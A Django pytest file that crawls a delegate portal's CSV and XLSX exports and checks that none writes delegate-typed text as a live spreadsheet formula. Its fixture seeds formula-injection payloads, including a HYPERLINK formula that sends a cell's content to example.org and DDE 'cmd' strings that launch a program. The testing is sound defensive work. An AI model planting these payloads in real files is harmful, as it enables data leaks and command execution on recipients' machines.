"""No spreadsheet or CSV file the portal writes runs what a delegate typed as a formula.

The exports are not listed here: the test requests every URL pattern of the URLconf (the
admin's get_urls() included) and runs every admin action, as a superuser, and checks every
answer that is a CSV file or a spreadsheet. A new export that forgets core.spreadsheets fails
it; a new export the fixture's data do not reach fails it too (add hostile values to the
fields it writes)."""

import csv
import io
import re

import pytest
from django.apps import apps
from django.contrib import admin
from django.test import RequestFactory
from openpyxl import load_workbook

from agreements.models import Agreement
from core.authorization import SYSTEM
from core.spreadsheets import FORMULA_STARTS
from meetings import services as meeting_services
from tests.agreements.factories import AgreementFactory
from tests.factories import (
    OrganizationFactory,
    RegistrationFactory,
    RussianOrganizationFactory,
    RussianRegistrationFactory,
    UserFactory,
)
from tests.helpers import log_in, on_a_check_in_day
from tests.meetings.conftest import make_meeting_point, make_profile
from tests.roles import ORGANIZERS, role_member
from tests.urlconf import routes
from venue.services import checkin
from venue.services.badges import badge_token

pytestmark = pytest.mark.django_db

# One text per character that makes a spreadsheet program read a cell as a formula.
HYPERLINK = '=HYPERLINK("http://example.org/?x="&D2,"Open")'
PAYLOADS = [
    HYPERLINK,
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]

CSV_TYPES = ("text/csv", "text/tab-separated-values")
XLSX_TYPES = ("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",)
OTHER_SPREADSHEET_TYPES = (
    "application/vnd.ms-excel",
    "application/vnd.oasis.opendocument.spreadsheet",
)
# Exports that exist today: if the walk stops finding them, the walk is broken.
KNOWN_EXPORTS = (
    r"/admin/delegates/registration/export/csv/$",
    r"/admin/delegates/registration/export/xlsx/$",
    r"/desk/\d+/attendance\.csv$",
    r"/desk/\d+/attendance\.xlsx$",
    r"/meeting-point/staff/\d+/interpreters\.xlsx$",
)


@pytest.fixture
def hostile_portal(db, session):
    """A session whose delegates typed formulas into every field an export may write."""
    italian_organization = OrganizationFactory(name_latin=HYPERLINK, city=PAYLOADS[5])
    russian_organization = RussianOrganizationFactory(
        name_latin=PAYLOADS[2], name_cyrillic=PAYLOADS[3]
    )
    italian = RegistrationFactory(
        session=session,
        organization=italian_organization,
        position=PAYLOADS[1],
        person__family_name_latin=PAYLOADS[4],
        person__phone=PAYLOADS[1],
        wants_bilateral_meetings=True,
    )
    russian = RussianRegistrationFactory(
        session=session,
        organization=russian_organization,
        position=HYPERLINK,
        person__given_name_latin=PAYLOADS[3],
        wants_bilateral_meetings=True,
    )
    meeting_point = make_meeting_point(session)
    make_profile(italian, offers=HYPERLINK, looks_for=PAYLOADS[2])
    make_profile(russian, offers=PAYLOADS[1], looks_for=PAYLOADS[3])
    meeting_services.create_meeting_by_staff(
        meeting_point, italian, russian, 0, 1, interpreter=True, by=SYSTEM
    )
    desk = role_member(ORGANIZERS, username="desk")
    with on_a_check_in_day(session):
        for registration in (italian, russian):
            checkin.scan(session, badge_token(registration), desk)
    AgreementFactory(
        session=session, title_it=HYPERLINK, title_ru=PAYLOADS[3], summary_it=PAYLOADS[1]
    )
    # The open data: a public agreement (signed at a past session) and the historical record,
    # which staff type into.
    AgreementFactory(title_it=PAYLOADS[2], signing_place=HYPERLINK)
    from sessions_app.models import Edition

    Edition.objects.create(number=99, venue=HYPERLINK, city_it=PAYLOADS[1], session=session)
    # A collaboration project accepted for the public catalogue (projects.csv).
    from tests.factories import ThematicTableFactory
    from tests.projects.conftest import make_project

    table = ThematicTableFactory(session=session)
    make_project(
        russian, table, title_ru=PAYLOADS[3], summary_ru=HYPERLINK, status="accepted_table"
    )
    return {"session": session, "token": italian.management_token}


def kind_of(response):
    """ "csv", "xlsx", "other" (a spreadsheet format nothing here reads) or None, by content
    type or, for a file sent as anything else, by the extension of its file name."""
    content_type = response.get("Content-Type", "").split(";")[0].strip().lower()
    filename = re.search(r'filename="?([^";]+)', response.get("Content-Disposition", ""))
    extension = filename[1].rsplit(".", 1)[-1].lower() if filename else ""
    if content_type in CSV_TYPES or extension in ("csv", "tsv"):
        return "csv"
    if content_type in XLSX_TYPES or extension == "xlsx":
        return "xlsx"
    if content_type in OTHER_SPREADSHEET_TYPES or extension in ("xls", "ods"):
        return "other"
    return None


def body(response):
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


def model_of(template):
    """The model of an admin URL (/admin/<app>/<model>/…), or None."""
    match = re.match(r"/admin/(\w+)/(\w+)/", template)
    if not match:
        return None
    try:
        return apps.get_model(match[1], match[2])
    except LookupError:
        return None


def candidate_urls(route, portal):
    """The route with its parameters filled by values that reach the portal's data."""
    session = portal["session"]
    model = model_of(route.template)
    first = model._default_manager.order_by("pk").first() if model else None

    def values(name, kind):
        if name == "number":
            return [session.number]
        if name == "token":
            return [portal["token"]]
        if first is not None and kind in ("int", "path", "regex"):
            return [first.pk]  # an object of the admin's model
        if kind == "int":
            return [session.pk, session.number, *Agreement.objects.values_list("pk", flat=True)]
        return ["csv", "xlsx", portal["token"]]

    urls = [{}]
    for name, kind in route.parameters:
        urls = [{**filled, name: value} for filled in urls for value in values(name, kind)]
    return [route.url(**filled) for filled in urls]


def every_export(client, portal, superuser):
    """(where, kind, content) of every CSV or spreadsheet answer of the portal."""
    exports = []
    for route in routes():
        for url in candidate_urls(route, portal):
            response = client.get(url)
            if kind_of(response):
                exports.append((url, kind_of(response), body(response)))
    request = RequestFactory().get("/admin/")
    request.user = superuser
    for model, model_admin in admin.site._registry.items():
        pks = list(model._default_manager.values_list("pk", flat=True)[:20])
        if not pks:
            continue
        changelist = f"/admin/{model._meta.app_label}/{model._meta.model_name}/"
        for action in model_admin.get_actions(request):
            response = client.post(changelist, {"action": action, "_selected_action": pks})
            if kind_of(response):
                exports.append((f"{changelist} action {action}", kind_of(response), body(response)))
    return exports


def csv_cells(content):
    text = content.decode("utf-8-sig")
    delimiter = "\t" if text.count("\t") > text.count(",") else ","
    return [field for row in csv.reader(io.StringIO(text), delimiter=delimiter) for field in row]


def unsafe_csv_cells(content):
    return [field for field in csv_cells(content) if field.startswith(FORMULA_STARTS)]


def xlsx_cells(content):
    workbook = load_workbook(io.BytesIO(content))
    return [
        cell
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]


def unsafe_xlsx_cells(content):
    return [
        f"{cell.coordinate}={cell.value!r}"
        for cell in xlsx_cells(content)
        if cell.data_type == "f"
        or (isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS))
        and not cell.quotePrefix
    ]


def reached_by_payload(kind, content):
    if kind == "csv":
        values = set(csv_cells(content))
        return any("'" + payload in values for payload in PAYLOADS)
    values = {cell.value for cell in xlsx_cells(content)}
    return any(payload in values or "'" + payload in values for payload in PAYLOADS)


def test_every_export_writes_formulas_typed_by_delegates_as_text(client, hostile_portal, settings):
    settings.RATE_LIMITS_ENABLED = False
    client.raise_request_exception = False
    superuser = UserFactory(is_superuser=True, is_staff=True, username="ministry")
    log_in(client, superuser)

    exports = every_export(client, hostile_portal, superuser)

    found = [where for where, _kind, _content in exports]
    for known in KNOWN_EXPORTS:
        assert any(re.search(known, where) for where in found), (known, found)
    for where, kind, content in exports:
        assert kind != "other", f"{where}: write spreadsheets through core.spreadsheets (xlsx)"
        unsafe = unsafe_csv_cells(content) if kind == "csv" else unsafe_xlsx_cells(content)
        assert not unsafe, f"{where} writes formulas: {unsafe}"
        assert reached_by_payload(kind, content), (
            f"{where}: none of the fixture's hostile texts reached this export; "
            "give hostile values to the fields it writes"
        )
